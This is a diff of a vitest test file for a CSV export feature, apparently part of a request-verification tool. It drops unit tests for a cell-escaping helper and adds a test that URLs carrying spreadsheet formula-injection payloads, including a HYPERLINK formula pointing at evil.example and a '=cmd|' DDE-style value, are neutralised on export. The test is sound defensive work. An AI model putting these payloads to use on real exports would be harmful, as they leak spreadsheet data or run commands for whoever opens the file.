@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 
 import { checkRequests } from '@/lib/core/verification/check-requests';
-import { cell, exportCsv } from '@/lib/core/verification/export-csv';
+import { exportCsv } from '@/lib/core/verification/export-csv';
 import { exportJson } from '@/lib/core/verification/export-json';
 import { judge } from '@/lib/core/verification/verdict';
 import { findingSentence } from '@/lib/text/findings';
@@ -27,22 +27,6 @@ const recording = {
   names: new Map([[531, '=cmd|"x"']]),
 };
 
-describe('cell', () => {
-  it.each([
-    ['plain', 'plain'],
-    ['', ''],
-    ['a,b', '"a,b"'],
-    ['say "hi"', '"say ""hi"""'],
-    ['two\nlines', '"two\nlines"'],
-    ['=1+1', "'=1+1"],
-    ['+1', "'+1"],
-    ['-1', "'-1"],
-    ['@x', "'@x"],
-    ['\tx', "'\tx"],
-    ['=a,"b"', `"'=a,""b"""`],
-  ])('%j becomes %j', (value, wanted) => expect(cell(value)).toBe(wanted));
-});
-
 describe('exportCsv', () => {
   const lines = exportCsv(recording, findingSentence).split('\r\n');
 
@@ -56,6 +40,16 @@ describe('exportCsv', () => {
   it('decodes parameters and guards cells', () => {
     expect(lines[1]).toContain(`531,"'=cmd|""x""",pass,2,'=1+1,,https://y/?a=1,"x=a,b"`);
     expect(lines[1]).toMatch(/^2026-11-24T10:00:10.000Z,https:\/\/news.example\/a,/);
+  });
+
+  it('whatever a page puts into its addresses, no piece of a cell is a formula', () => {
+    const url =
+      'https://ib.adnxs.com/imptr?id=%EF%BC%9D1%2B1&t=%0A%3D1&cachebuster=1;=HYPERLINK("http://evil.example/?"%26A1);';
+    const evil = checkRequests([request(url)], pageViews, { byId: new Map(), loaded: true });
+    const text = exportCsv({ ...recording, requests: evil, verdicts: [] }, findingSentence);
+    expect(text).toContain(",'＝1+1,");
+    expect(text).toContain(`;'=HYPERLINK(`);
+    expect(text).not.toMatch(/(?:^|[;,\t\r\n])["\s]*[=+\-@＝＋－＠]/);
   });
 
   it('says the findings in words', () => {
